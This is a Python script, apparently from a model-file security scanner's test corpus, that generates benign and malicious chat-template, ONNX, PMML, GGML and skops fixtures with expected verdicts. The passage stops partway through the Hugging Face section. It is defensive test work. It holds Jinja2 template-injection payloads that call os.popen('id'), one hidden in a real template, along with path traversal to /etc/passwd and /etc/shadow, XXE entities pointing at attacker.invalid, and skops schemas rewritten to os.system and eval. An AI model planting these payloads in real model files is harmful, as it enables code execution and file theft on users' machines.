"""Fixtures for the model formats that are not pickles: chat templates (GGUF metadata,
tokenizer_config.json, .jinja), ONNX, PMML, legacy GGML, skops, Hugging Face folders.

Benign files are written by the real libraries (gguf, onnx, skops, json as transformers writes
it); attacks are real saves edited to carry each published shape, or written at byte level where
no library writes them. Payloads only run `id`/`echo`. Nothing here is rendered or loaded.

Run from the repository root with a venv holding the pinned libraries:
    python3 -m venv /tmp/venv && /tmp/venv/bin/pip install onnx==1.23.2 jinja2==3.1.6 \
        gguf skops==0.16.0 scikit-learn numpy
    /tmp/venv/bin/python corpus/gen/formats.py
It rewrites corpus/formats/ (except templates/benign/, copied from llama.cpp's
models/templates/ as vendored in llama_cpp_python 0.3.36) and corpus/formats/manifest.json.
"""

import json
import re
import os
import shutil
import sys

import jinja2
import jinja2.sandbox

import manifest

ROOT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "formats")
MANIFEST = []


def path(*parts):
    p = os.path.join(ROOT, *parts)
    os.makedirs(os.path.dirname(p), exist_ok=True)
    return p


def container_of(rel):
    """The format the scanner reports for a fixture (the shared corpus manifest checks it)."""
    if rel.endswith(".data"):
        return "not-a-model:binary"
    if rel.endswith(".jinja"):
        return "chat-template"
    if rel.endswith(".py"):
        return "not-a-model:text"
    if rel.startswith("keras/") and rel.endswith(".config.json"):
        return "keras-config"
    if rel.startswith("hf/"):
        return "hf-config" if "remote_code" in rel else "not-a-model:json"
    if rel.endswith(".json"):
        return "tokenizer-config"
    if rel.startswith("ggml/"):
        with open(os.path.join(ROOT, rel), "rb") as f:
            return {b"lmgg": "ggml", b"fmgg": "ggmf", b"tjgg": "ggjt", b"algg": "ggla"}[f.read(4)]
    if rel.startswith("skops/") or rel.endswith(".keras"):
        return "zip"
    return rel.rsplit(".", 1)[1]


def expect(rel, verdict, rules=(), note=""):
    MANIFEST.append({"path": rel, "container": container_of(rel), "verdict": verdict,
                     "rules": sorted(rules), "note": note})


# --------------------------------------------------------------------------------------------
# Chat templates
# --------------------------------------------------------------------------------------------

BENIGN_DIR = os.path.join(ROOT, "templates", "benign")

CHATML = (
    "{% for message in messages %}{{'<|im_start|>' + message['role'] + '\\n' + message['content']"
    " + '<|im_end|>' + '\\n'}}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}"
    "{% endif %}"
)

# Hugging Face's assistant-mask form ({% generation %}, transformers' AssistantTracker).
HF_GENERATION = (
    "{% for message in messages %}{% if message['role'] == 'assistant' %}{{ '<|assistant|>' }}"
    "{% generation %}{{ message['content'] + eos_token }}{% endgeneration %}"
    "{% else %}{{ '<|' + message['role'] + '|>' + message['content'] }}{% endif %}{% endfor %}"
)

# loop.cycle, namespace(), tojson, strftime_now, raise_exception, macros: constructs real templates use.
CONSTRUCTS = (
    "{%- set ns = namespace(system=none, n=0) -%}"
    "{%- macro render(m) -%}{{ m['role'] | upper }}: {{ m['content'] | trim }}{%- endmacro -%}"
    "{{ strftime_now('%d %b %Y') }}"
    "{%- for m in messages -%}"
    "{%- if (m['role'] == 'user') != (loop.index0 % 2 == 0) -%}"
    "{{ raise_exception('Conversation roles must alternate user/assistant/user/assistant/...') }}"
    "{%- endif -%}{%- set ns.n = ns.n + 1 -%}"
    "<{{ loop.cycle('odd', 'even') }}>{{ render(m) }}{{ tools | tojson(indent=2) if tools }}"
    "{%- endfor -%}{{ (messages | selectattr('role', 'equalto', 'user') | list | length) }}"
)

# Published shapes. CVE-2024-34359 (llama-cpp-python GHSA-56xg-wfcc-g829) and CVE-2026-5760
# (SGLang, CERT VU#915947) used the warnings.catch_warnings walk; the others are the classic
# Jinja2 SSTI forms and their obfuscations.
ATTACKS = {
    "cve_2024_34359_subclasses": (
        "{% for x in ().__class__.__base__.__subclasses__() %}{% if \"warning\" in x.__name__ %}"
        "{{ x()._module.__builtins__['__import__']('os').popen(\"id\").read() }}{% endif %}{% endfor %}"
    ),
    "lipsum_globals_os": "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "cycler_init_globals": "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "joiner_init_globals": "{{ joiner.__init__.__globals__['__builtins__']['eval']('1') }}",
    "namespace_init_globals": "{{ namespace.__init__.__globals__.os.system('id') }}",
    "attr_hex_escapes": (
        "{{ ()|attr('\\x5f\\x5fclass\\x5f\\x5f')|attr('\\x5f\\x5fbase\\x5f\\x5f')"
        "|attr('\\x5f\\x5fsubclasses\\x5f\\x5f')() }}"
    ),
    "attr_unicode_escapes": "{{ ()|attr('\\U0000005f\\U0000005fclass\\U0000005f\\U0000005f') }}",
    "attr_join_list": "{{ messages|attr(['_','_class_','_']|join)|attr(['_','_mro_','_']|join) }}",
    "attr_printf_format": "{{ messages|attr('%c%cclass%c%c'|format(95,95,95,95)) }}",
    "attr_str_format_c": "{{ messages|attr('{0:c}{0:c}init{0:c}{0:c}'.format(95)) }}",
    "attr_reversed_slice": "{{ messages|attr('__ssalc__'[::-1]) }}",
    "attr_dict_keys": "{{ raise_exception|attr(dict(__globals__=1)|list|first) }}",
    "attr_concat_set": (
        "{% set a = '__glo' %}{% set b = a ~ 'bals__' %}{{ raise_exception|attr(b) }}"
    ),
    "attr_replace": "{{ messages|attr('_-class-_'|replace('-', '_')) }}",
    "item_dunder": "{{ messages['__class__']['__mro__'][1]['__subclasses__']() }}",
    "map_attribute": "{{ messages|map(attribute='__class__.__init__.__globals__')|list }}",
    "str_format_traversal": "{{ '{0.__class__.__init__.__globals__}'.format(messages) }}",
    "self_template_reference": "{{ self.__init__.__globals__.__builtins__ }}",
}

SUSPICIOUS = {
    # A template that does not parse is not vouched for.
    "unparsable": "{% for m in messages %}{{ m['content'] }",
    # Attribute names computed from render-time values.
    "attr_dynamic": "{{ messages|attr(messages[0]['content']) }}",
    # A dunder spelt but not seen used as a name.
    "dunder_string": "{{ '__glo' ~ 'bals__' }}",
    # Resource exhaustion.
    "range_bomb": "{% for i in range(100000000) %}x{% endfor %}",
}


def hidden_in_real(payload):
    """A real template with the payload appended where a reviewer would not look."""
    with open(os.path.join(BENIGN_DIR, "Qwen-Qwen2.5-7B-Instruct.jinja")) as f:
        real = f.read()
    return real + "{%- if false -%}" + payload + "{%- endif -%}"


class RecordingSandbox(jinja2.sandbox.ImmutableSandboxedEnvironment):
    """Jinja2's sandbox, recording every attribute it is asked to allow (it refuses `_` names)."""

    seen = []

    def is_safe_attribute(self, obj, attr, value):
        RecordingSandbox.seen.append(attr)
        return super().is_safe_attribute(obj, attr, value)


def check_jinja2(name, text, attack):
    """Every fixture is valid Jinja2 (what real renderers use). Attacks are rendered in Jinja2's
    sandbox, which refuses private attributes: each must ask for one there, proving the payload
    reaches Python internals when rendered unsandboxed. Nothing is rendered unsandboxed."""
    env = RecordingSandbox(extensions=["jinja2.ext.loopcontrols"])
    env.parse(re.sub(r"\{%[-+]?\s*(end)?generation\s*[-+]?%\}", "", text))
    if attack:
        RecordingSandbox.seen = []
        try:
            env.from_string(text).render(messages=[{"role": "user", "content": "x"}],
                                         raise_exception=lambda m: None)
        except Exception:
            pass
        if not any(a.startswith("_") for a in RecordingSandbox.seen):
            raise SystemExit(f"{name}: no private attribute reached ({RecordingSandbox.seen})")


def gguf_with_templates(out, templates, arch="llama"):
    import gguf
    import numpy as np

    w = gguf.GGUFWriter(out, arch)
    w.add_name("fixture")
    w.add_context_length(128)
    for key, text in templates.items():
        w.add_string(key, text)
    w.add_tensor("token_embd.weight", np.zeros((4, 32), dtype=np.float32))
    w.write_header_to_file()
    w.write_kv_data_to_file()
    w.write_tensors_to_file()
    w.close()


def templates():
    benign = sorted(f for f in os.listdir(BENIGN_DIR) if f.endswith(".jinja"))
    for f in benign:
        with open(os.path.join(BENIGN_DIR, f)) as fh:
            check_jinja2(f, fh.read(), False)
        expect(f"templates/benign/{f}", "clean", note="llama.cpp models/templates")
    for name, text in [("chatml", CHATML), ("hf_generation", HF_GENERATION), ("constructs", CONSTRUCTS)]:
        check_jinja2(name, text, False)
        with open(path("templates", "made", f"{name}.jinja"), "w") as f:
            f.write(text)
        expect(f"templates/made/{name}.jinja", "clean")

    # tokenizer_config.json as transformers writes it: the string form, and the list form.
    with open(os.path.join(BENIGN_DIR, "meta-llama-Llama-3.1-8B-Instruct.jinja")) as f:
        llama31 = f.read()
    cfg = {"add_bos_token": True, "bos_token": "<|begin_of_text|>", "chat_template": llama31,
           "clean_up_tokenization_spaces": True, "eos_token": "<|eot_id|>",
           "model_max_length": 131072, "tokenizer_class": "PreTrainedTokenizerFast"}
    with open(path("templates", "tokenizer_config_string.json"), "w") as f:
        json.dump(cfg, f, indent=2, ensure_ascii=False)
    expect("templates/tokenizer_config_string.json", "clean")
    cfg_list = dict(cfg, chat_template=[{"name": "default", "template": CHATML},
                                        {"name": "tool_use", "template": llama31}])
    with open(path("templates", "tokenizer_config_list.json"), "w") as f:
        json.dump(cfg_list, f, indent=2, ensure_ascii=False)
    expect("templates/tokenizer_config_list.json", "clean")

    # GGUF with real templates in the default and named keys (gguf-py, as convert_hf_to_gguf).
    gguf_with_templates(path("templates", "benign_templates.gguf"),
                        {"tokenizer.chat_template": llama31,
                         "tokenizer.chat_template.tool_use": CONSTRUCTS,
                         "tokenizer.chat_template.rag": HF_GENERATION})
    expect("templates/benign_templates.gguf", "clean")

    for name, payload in ATTACKS.items():
        check_jinja2(name, payload, True)
        rules = ["PS961"] if any(g in payload for g in ("lipsum", "cycler", "joiner", "namespace.", "self.")) else ["PS960"]
        with open(path("templates", "attack", f"{name}.jinja"), "w") as f:
            f.write(payload)
        expect(f"templates/attack/{name}.jinja", "dangerous", rules)
    # The published delivery: the payload in GGUF metadata (CVE-2024-34359, CVE-2026-5760),
    # hidden in a real template, in the default key and in a named key only.
    gguf_with_templates(path("templates", "attack", "cve_2024_34359.gguf"),
                        {"tokenizer.chat_template": hidden_in_real(ATTACKS["cve_2024_34359_subclasses"])})
    expect("templates/attack/cve_2024_34359.gguf", "dangerous", ["PS960"])
    gguf_with_templates(path("templates", "attack", "named_template_only.gguf"),
                        {"tokenizer.chat_template": llama31,
                         "tokenizer.chat_template.tool_use": hidden_in_real(ATTACKS["lipsum_globals_os"])})
    expect("templates/attack/named_template_only.gguf", "dangerous", ["PS961"])
    # litellm GHSA-46cm-pfwv-cgf8: the template in tokenizer_config.json, both forms.
    with open(path("templates", "attack", "tokenizer_config_string.json"), "w") as f:
        json.dump(dict(cfg, chat_template=hidden_in_real(ATTACKS["attr_join_list"])), f, indent=2)
    expect("templates/attack/tokenizer_config_string.json", "dangerous", ["PS960"])
    with open(path("templates", "attack", "tokenizer_config_list.json"), "w") as f:
        json.dump(dict(cfg, chat_template=[{"name": "default", "template": CHATML},
                                           {"name": "tool_use", "template": ATTACKS["cycler_init_globals"]}]),
                  f, indent=2)
    expect("templates/attack/tokenizer_config_list.json", "dangerous", ["PS961"])

    for name, text in SUSPICIOUS.items():
        with open(path("templates", "suspicious", f"{name}.jinja"), "w") as f:
            f.write(text)
        rule = "PS963" if name == "unparsable" else "PS962"
        expect(f"templates/suspicious/{name}.jinja", "suspicious", [rule])


# --------------------------------------------------------------------------------------------
# ONNX
# --------------------------------------------------------------------------------------------

def onnx_mlp(initializer_dims=(16, 8)):
    import numpy as np
    import onnx
    from onnx import TensorProto, helper, numpy_helper

    rng = np.random.default_rng(0)
    w = numpy_helper.from_array(rng.standard_normal(initializer_dims).astype(np.float32), "W")
    b = numpy_helper.from_array(np.zeros(initializer_dims[1], dtype=np.float32), "B")
    nodes = [
        helper.make_node("Gemm", ["X", "W", "B"], ["H"], name="gemm"),
        helper.make_node("Relu", ["H"], ["Y"], name="relu"),
    ]
    graph = helper.make_graph(
        nodes, "mlp",
        [helper.make_tensor_value_info("X", TensorProto.FLOAT, [1, initializer_dims[0]])],
        [helper.make_tensor_value_info("Y", TensorProto.FLOAT, [1, initializer_dims[1]])],
        [w, b],
    )
    model = helper.make_model(graph, producer_name="picklescan-fixtures",
                              opset_imports=[helper.make_opsetid("", 17)])
    onnx.checker.check_model(model)
    return model


def onnx_with_subgraph():
    """If with both branches as subgraphs holding a Constant; an ai.onnx.ml op; a com.microsoft op;
    a model-local function of a custom domain (defined in the file, so not a custom library)."""
    import numpy as np
    import onnx
    from onnx import TensorProto, helper, numpy_helper

    def branch(name, value):
        c = helper.make_node("Constant", [], [name + "_out"],
                             value=numpy_helper.from_array(np.array([value], dtype=np.float32)))
        return helper.make_graph([c], name, [], [helper.make_tensor_value_info(name + "_out", TensorProto.FLOAT, [1])])

    cond = helper.make_tensor_value_info("cond", TensorProto.BOOL, [])
    nodes = [
        helper.make_node("If", ["cond"], ["Z"], then_branch=branch("then", 1.0), else_branch=branch("else", 0.0)),
        helper.make_node("Normalizer", ["X"], ["N"], domain="ai.onnx.ml", norm="L2"),
        helper.make_node("FusedMatMul", ["X", "X"], ["M"], domain="com.microsoft", alpha=1.0),
        helper.make_node("Twice", ["X"], ["T"], domain="local.fn"),
    ]
    fn = helper.make_function("local.fn", "Twice", ["x"], ["y"],
                              [helper.make_node("Add", ["x", "x"], ["y"])],
                              [helper.make_opsetid("", 17)])
    X = helper.make_tensor_value_info("X", TensorProto.FLOAT, [2, 2])
    outs = [helper.make_tensor_value_info(n, TensorProto.FLOAT, None) for n in ["Z", "N", "M", "T"]]
    graph = helper.make_graph(nodes, "g", [cond, X], outs)
    return helper.make_model(graph, producer_name="picklescan-fixtures", functions=[fn],
                             opset_imports=[helper.make_opsetid("", 17), helper.make_opsetid("ai.onnx.ml", 3),
                                            helper.make_opsetid("com.microsoft", 1), helper.make_opsetid("local.fn", 1)])


def set_location(model, location, tensor="W", extra=()):
    """Edit a model saved with external data: point one tensor's location elsewhere."""
    for t in model.graph.initializer:
        if t.name == tensor:
            for e in t.external_data:
                if e.key == "location":
                    e.value = location
            for k, v in extra:
                entry = t.external_data.add()
                entry.key, entry.value = k, v
    return model


def onnx_fixtures():
    import onnx
    from onnx import helper

    shutil.rmtree(os.path.join(ROOT, "onnx"), ignore_errors=True)
    onnx.save(onnx_mlp(), path("onnx", "mlp.onnx"))
    expect("onnx/mlp.onnx", "clean")
    onnx.save(onnx_with_subgraph(), path("onnx", "subgraphs_ml_msft_function.onnx"))
    expect("onnx/subgraphs_ml_msft_function.onnx", "clean")

    # External data as onnx.save writes it: a folder with the model and its data file.
    d = path("onnx", "external_ok", "model.onnx")
    onnx.save(onnx_mlp(), d, save_as_external_data=True, all_tensors_to_one_file=True,
              location="tensors.data", size_threshold=0)
    expect("onnx/external_ok/model.onnx", "clean")
    expect("onnx/external_ok/tensors.data", "clean", note="raw tensor bytes: not a model")

    def external_attack(name, location, verdict, rules, extra=(), keep_data=True):
        m = onnx.load(d, load_external_data=False)
        set_location(m, location, extra=extra)
        p = path("onnx", name, "model.onnx")
        onnx.save(m, p)
        if keep_data:
            shutil.copy(os.path.join(os.path.dirname(d), "tensors.data"), os.path.join(os.path.dirname(p), "tensors.data"))
            expect(f"onnx/{name}/tensors.data", "clean", note="raw tensor bytes: not a model")
        expect(f"onnx/{name}/model.onnx", verdict, rules)

    # CVE-2022-25882: a relative path out of the folder; CVE-2024-27318: the bypass of the
    # leading-`../` strip; absolute paths; onnxruntime's memory-address sentinel.
    external_attack("cve_2022_25882_traversal", "../../../../../../etc/passwd", "dangerous", ["PS965"])
    external_attack("cve_2024_27318_inner_dotdot", "weights/../../../../etc/passwd", "dangerous", ["PS965"])
    external_attack("absolute_path", "/etc/passwd", "dangerous", ["PS965"])
    external_attack("ort_mem_addr", "*/_ORT_MEM_ADDR_/*", "dangerous", ["PS965"])
    # Not verified: the data file is missing; an unknown key (GHSA-538c-55jv-c5g9); a range past the file.
    external_attack("missing_data_file", "tensors.data", "suspicious", ["PS966"], keep_data=False)
    external_attack("unknown_key", "tensors.data", "suspicious", ["PS966"], extra=[("__class__", "x")])
    external_attack("length_past_end", "tensors.data", "suspicious", ["PS966"], extra=[])
    m = onnx.load(path("onnx", "length_past_end", "model.onnx"), load_external_data=False)
    for t in m.graph.initializer:
        for e in t.external_data:
            if e.key == "length":
                e.value = "999999999"
    onnx.save(m, path("onnx", "length_past_end", "model.onnx"))

    # Traversal inside a subgraph (the Constant of an If branch) is found too.
    m = onnx_with_subgraph()
    const = m.graph.node[0].attribute[0].g.node[0].attribute[0].t
    const.ClearField("raw_data")
    const.data_location = onnx.TensorProto.EXTERNAL
    e = const.external_data.add()
    e.key, e.value = "location", "../../../../etc/shadow"
    onnx.save(m, path("onnx", "subgraph_traversal.onnx"))
    expect("onnx/subgraph_traversal.onnx", "dangerous", ["PS965"])

    # onnxruntime's PyOp: the attributes name the module and class it imports.
    m = onnx_mlp()
    m.graph.node.append(helper.make_node("PyOp", ["Y"], ["Y2"], name="py", domain="com.microsoft",
                                         module="os", class_name="system", compute="compute",
                                         input_types=[1], output_types=[1]))
    onnx.save(m, path("onnx", "pyop_os_system.onnx"))
    expect("onnx/pyop_os_system.onnx", "dangerous", ["PS968"])

    # A custom domain: a custom-op library must be loaded.
    m = onnx_mlp()
    m.graph.node.append(helper.make_node("StringRegexReplace", ["Y"], ["Y2"], domain="ai.onnx.contrib"))
    m.opset_import.append(helper.make_opsetid("ai.onnx.contrib", 1))
    onnx.save(m, path("onnx", "custom_domain.onnx"))
    expect("onnx/custom_domain.onnx", "suspicious", ["PS967"])

    # Cut short: the reader reports where.
    with open(path("onnx", "mlp.onnx"), "rb") as f:
        data = f.read()
    with open(path("onnx", "truncated.onnx"), "wb") as f:
        f.write(data[: len(data) // 2])
    expect("onnx/truncated.onnx", "suspicious", ["PS969"])


# --------------------------------------------------------------------------------------------
# PMML
# --------------------------------------------------------------------------------------------

def sklearn2pmml_save(estimator, out, steps=()):
    """A real PMML document: a fitted scikit-learn pipeline converted by sklearn2pmml (JPMML)."""
    from sklearn.datasets import load_iris
    from sklearn2pmml import sklearn2pmml
    from sklearn2pmml.pipeline import PMMLPipeline

    X, y = load_iris(return_X_y=True, as_frame=True)
    pipeline = PMMLPipeline(list(steps) + [("model", estimator)])
    pipeline.fit(X, y)
    sklearn2pmml(pipeline, out)


def with_doctype(text, doctype, ref=None):
    """Insert a DOCTYPE after the XML declaration; optionally reference an entity in Timestamp."""
    decl_end = text.index("?>") + 2
    text = text[:decl_end] + "\n" + doctype + text[decl_end:]
    if ref:
        text = re.sub(r"<Timestamp>[^<]*</Timestamp>", f"<Timestamp>&{ref};</Timestamp>", text)
    return text


def pmml_fixtures():
    from sklearn.linear_model import LogisticRegression
    from sklearn.preprocessing import StandardScaler
    from sklearn.tree import DecisionTreeClassifier

    shutil.rmtree(os.path.join(ROOT, "pmml"), ignore_errors=True)
    lr = path("pmml", "sklearn2pmml_logistic.pmml")
    sklearn2pmml_save(LogisticRegression(max_iter=500), lr)
    expect("pmml/sklearn2pmml_logistic.pmml", "clean")
    sklearn2pmml_save(DecisionTreeClassifier(max_depth=3, random_state=0),
                      path("pmml", "sklearn2pmml_tree_scaled.pmml"), [("scale", StandardScaler())])
    expect("pmml/sklearn2pmml_tree_scaled.pmml", "clean")
    with open(lr) as f:
        base = f.read()

    def write(name, text, verdict, rules=()):
        with open(path("pmml", name), "w") as f:
            f.write(text)
        expect(f"pmml/{name}", verdict, rules)

    # PMML 2.0 documents were DTD-based: DMG's own DTD is clean. A small internal entity is clean.
    write("dmg_dtd_pmml20.pmml", with_doctype(base, '<!DOCTYPE PMML PUBLIC "PMML 2.0" "http://www.dmg.org/v2-0/pmml_v2_0.dtd">'), "clean")
    write("internal_entity.pmml", with_doctype(base, '<!DOCTYPE PMML [ <!ENTITY when "2024-01-01T00:00:00Z"> ]>', "when"), "clean")
    # XXE: a local file read into the document; out-of-band through a parameter entity; a remote DTD.
    write("xxe_file_read.pmml", with_doctype(base, '<!DOCTYPE PMML [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>', "xxe"), "dangerous", ["PS970"])
    write("xxe_parameter_entity_oob.pmml", with_doctype(base, '<!DOCTYPE PMML [ <!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd"> %remote; ]>'), "dangerous", ["PS970"])
    write("xxe_public_entity.pmml", with_doctype(base, '<!DOCTYPE PMML [ <!ENTITY x PUBLIC "-//X//EN" "http://attacker.invalid/x"> ]>', "x"), "dangerous", ["PS970"])
    write("external_dtd.pmml", with_doctype(base, '<!DOCTYPE PMML SYSTEM "http://attacker.invalid/pmml.dtd">'), "dangerous", ["PS970"])
    # Billion laughs: estimated, never expanded.
    laughs = ['<!ENTITY lol "lol">'] + [f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10)]
    write("billion_laughs.pmml", with_doctype(base, "<!DOCTYPE PMML [ " + " ".join(laughs) + " ]>", "lol9"), "suspicious", ["PS971"])
    write("undeclared_entity.pmml", base.replace("<Timestamp>", "<Timestamp>&nowhere;", 1), "suspicious", ["PS972"])
    write("truncated.pmml", base[: len(base) // 2], "suspicious", ["PS972"])
    write("code_in_extension.pmml",
          base.replace("</Header>", '<Extension name="repr" value="__import__(\'os\').system(\'id\')"/></Header>', 1),
          "suspicious", ["PS973"])


# --------------------------------------------------------------------------------------------
# Legacy GGML / GGMF / GGJT / GGLA (no library writes them any more: written at byte level in
# llama.cpp's layout, and read back with llama.cpp's own reader when LLAMA_CPP_SRC points at a
# llama.cpp source tree, e.g. the one vendored in the llama_cpp_python sdist)
# --------------------------------------------------------------------------------------------

import struct

GGML_SIZES = {0: (1, 4), 1: (1, 2), 2: (32, 18), 6: (32, 22)}  # F32, F16, Q4_0, Q5_0 (GGJT v3 layouts)


def ggml_bytes(magic, version, tensors, n_vocab=8, n_embd=32, scores=True, aligned=False, lora=False):
    out = bytearray(magic)
    if version is not None:
        out += struct.pack("<I", version)
    if lora:
        out += struct.pack("<ii", 8, 16)
    else:
        out += struct.pack("<7I", n_vocab, n_embd, 256, 4, 1, n_embd // 4, 1)
        for i in range(n_vocab):
            tok = ["<unk>", "<s>", "</s>"][i] if i < 3 else f"tok{i}"
            out += struct.pack("<I", len(tok)) + tok.encode()
            if scores:
                out += struct.pack("<f", -float(i))
    for name, t, dims, *data in tensors:
        out += struct.pack("<3I", len(dims), len(name), t) + struct.pack(f"<{len(dims)}I", *dims) + name.encode()
        if aligned:
            out += b"\0" * ((32 - len(out) % 32) % 32)
        if data:  # the tensor's bytes as given
            out += data[0]
            continue
        block, size = GGML_SIZES[t]
        n = 1
        for d in dims:
            n *= d
        out += bytes((i * 7) % 251 for i in range(n // block * size))
    return bytes(out)


LLAMA_TENSORS = [
    ("tok_embeddings.weight", 1, [32, 8]),
    ("norm.weight", 0, [32]),
    ("output.weight", 1, [32, 8]),
    ("layers.0.attention.wq.weight", 1, [32, 32]),
    ("layers.0.feed_forward.w1.weight", 1, [32, 64]),
]


def check_with_llama_cpp(p):
    src = os.environ.get("LLAMA_CPP_SRC")
    if not src:
        return
    sys.path.insert(0, src)
    import numpy as np
    from convert_llama_ggml_to_gguf import GGMLModel

    data = np.memmap(p, mode="r")
    GGMLModel().load(data, 0)


def ggml_fixtures():
    shutil.rmtree(os.path.join(ROOT, "ggml"), ignore_errors=True)

    def write(name, data, verdict, rules=(), check=False):
        p = path("ggml", name)
        with open(p, "wb") as f:
            f.write(data)
        if check:
            check_with_llama_cpp(p)
        expect(f"ggml/{name}", verdict, rules)

    write("llama_ggml.bin", ggml_bytes(b"lmgg", None, LLAMA_TENSORS, scores=False), "clean", check=True)
    write("llama_ggmf_v1.bin", ggml_bytes(b"fmgg", 1, LLAMA_TENSORS), "clean", check=True)
    write("llama_ggjt_v1.bin", ggml_bytes(b"tjgg", 1, LLAMA_TENSORS, aligned=True), "clean", check=True)
    q = LLAMA_TENSORS[:3] + [("layers.0.attention.wq.weight", 2, [32, 32]), ("layers.0.feed_forward.w1.weight", 6, [32, 64])]
    write("llama_ggjt_v3_q4_q5.bin", ggml_bytes(b"tjgg", 3, q, aligned=True), "clean", check=True)
    write("lora_ggla.bin", ggml_bytes(b"algg", 1, [("layers.0.attention.wq.weight.loraA", 0, [32, 8])], lora=True, aligned=True), "clean")
    good = ggml_bytes(b"tjgg", 3, LLAMA_TENSORS, aligned=True)
    # Counts and sizes a trusting loader reads out of bounds with.
    huge_vocab = bytearray(good)
    huge_vocab[8:12] = struct.pack("<I", 0xFFFFFFF0)
    write("huge_vocab.bin", bytes(huge_vocab), "suspicious", ["PS975"])
    write("truncated_tensor.bin", good[:-10], "suspicious", ["PS975"])
    write("overflowing_dims.bin", ggml_bytes(b"tjgg", 3, [("w", 0, [32])], aligned=True)[:-128]
          + struct.pack("<3I", 4, 1, 0) + struct.pack("<4I", 0xFFFFFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0xFFFFFFFF) + b"x", "suspicious", ["PS975"])
    removed = bytearray(good)
    # The first tensor's type becomes Q4_2 (id 4, removed from ggml).
    first = good.index(b"tok_embeddings.weight") - 8 - 12 + 8
    removed[first:first + 4] = struct.pack("<I", 4)
    write("removed_type_q4_2.bin", bytes(removed), "suspicious", ["PS975"])


# --------------------------------------------------------------------------------------------
# skops
# --------------------------------------------------------------------------------------------

def rewrite_skops(src, dst, edit):
    """A real skops file with its schema.json edited by `edit(schema) -> schema` (or bytes)."""
    import zipfile

    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for item in zin.infolist():
            data = zin.read(item.filename)
            if item.filename == "schema.json":
                new = edit(json.loads(data))
                data = new if isinstance(new, bytes) else json.dumps(new).encode()
            zout.writestr(item, data)


def find_node(node, pred):
    if isinstance(node, dict):
        if pred(node):
            return node
        for v in node.values():
            r = find_node(v, pred)
            if r is not None:
                return r
    elif isinstance(node, list):
        for v in node:
            r = find_node(v, pred)
            if r is not None:
                return r
    return None


def skops_fixtures():
    import numpy as np
    import skops.io as sio
    from sklearn.datasets import load_iris
    from sklearn.linear_model import LogisticRegression

    shutil.rmtree(os.path.join(ROOT, "skops"), ignore_errors=True)
    arrays = path("skops", "arrays_dict.skops")
    sio.dump({"weights": np.arange(12, dtype=np.float32).reshape(3, 4), "bias": np.zeros(4), "name": "w", "n": 3}, arrays)
    expect("skops/arrays_dict.skops", "clean")
    X, y = load_iris(return_X_y=True)
    lr = path("skops", "logistic_regression.skops")
    sio.dump(LogisticRegression(max_iter=500).fit(X, y), lr)
    expect("skops/logistic_regression.skops", "clean", [],
           note="skops.io.dump of a fitted LogisticRegression: its classes are on the generated scikit-learn allowlist")
    funcs = path("skops", "numpy_functions.skops")
    sio.dump({"f": np.add, "g": np.sum}, funcs)

    def to_os_system(schema):
        node = find_node(schema, lambda n: n.get("__loader__") == "FunctionNode")
        node["__module__"], node["__class__"] = "os", "system"
        return schema

    rewrite_skops(funcs, path("skops", "function_os_system.skops"), to_os_system)
    expect("skops/function_os_system.skops", "dangerous", ["PS101"])

    def reduce_eval(schema):
        node = find_node(schema, lambda n: n.get("__loader__") == "JsonNode")
        node.clear()
        node.update({"__class__": "eval", "__module__": "builtins", "__loader__": "ReduceNode",
                     "content": {"__class__": "tuple", "__module__": "builtins", "__loader__": "TupleNode",
                                 "content": [{"__class__": "str", "__module__": "builtins", "__loader__": "JsonNode",
                                              "content": "\"print('id')\"", "is_json": True}]}})
        return schema

    rewrite_skops(arrays, path("skops", "reduce_builtins_eval.skops"), reduce_eval)
    expect("skops/reduce_builtins_eval.skops", "dangerous", ["PS100"])

    # CVE-2025-54412: the audit saw `__module__.__class__`, construction called operator.<class>.
    def operator_func(schema):
        node = find_node(schema, lambda n: n.get("__loader__") == "JsonNode")
        node.clear()
        node.update({"__class__": "attrgetter", "__module__": "sklearn.linear_model", "__loader__": "OperatorFuncNode",
                     "content": {"__class__": "list", "__module__": "builtins", "__loader__": "ListNode", "content": []}})
        return schema

    rewrite_skops(arrays, path("skops", "cve_2025_54412_operator_func.skops"), operator_func)
    expect("skops/cve_2025_54412_operator_func.skops", "dangerous", ["PS976"])

    # CVE-2025-54413: a MethodNode whose method name is a dotted path.
    def method_dotted(schema):
        node = find_node(schema, lambda n: n.get("__loader__") == "JsonNode")
        node.clear()
        node.update({"__class__": "LogisticRegression", "__module__": "sklearn.linear_model._logistic",
                     "__loader__": "MethodNode",
                     "content": {"func": "__init__.__globals__", "obj": {"__class__": "dict", "__module__": "builtins",
                                                                        "__loader__": "DictNode", "content": {}}}})
        return schema

    rewrite_skops(arrays, path("skops", "cve_2025_54413_method_dotted.skops"), method_dotted)
    expect("skops/cve_2025_54413_method_dotted.skops", "dangerous", ["PS976"])
    rewrite_skops(arrays, path("skops", "schema_not_json.skops"), lambda s: json.dumps(s).encode()[:-40])
    expect("skops/schema_not_json.skops", "suspicious", ["PS976"])
    os.remove(funcs)


# --------------------------------------------------------------------------------------------
# Hugging Face folders with remote code (auto_map)
# --------------------------------------------------------------------------------------------

BERT_CONFIG = {
    "architectures": ["BertForMaskedLM"], "attention_probs_dropout_prob": 0.1, "hidden_act": "gelu",
    "hidden_dropout_prob": 0.1, "hidden_size": 768, "initializer_range": 0.02, "intermediate_size": 3072,
    "layer_norm_eps": 1e-12, "max_position_embeddings": 512, "model_type": "bert", "num_attention_heads": 12,
    "num_hidden_layers": 12, "pad_token_id": 0, "torch_dtype": "float32", "transformers_version": "4.46.0",
    "type_vocab_size": 2, "vocab_size": 30522,
}

BENIGN_MODELING = """import math

import torch
from torch import nn
from transformers import PreTrainedModel

from .configuration_tiny import TinyConfig


class TinyModel(PreTrainedModel):
    config_class = TinyConfig

    def __init__(self, config):
        super().__init__(config)
        self.proj = nn.Linear(config.hidden_size, config.hidden_size)

    def forward(self, x):
        return self.proj(x) / math.sqrt(x.shape[-1])
"""

BENIGN_CONFIGURATION = """from transformers import PretrainedConfig


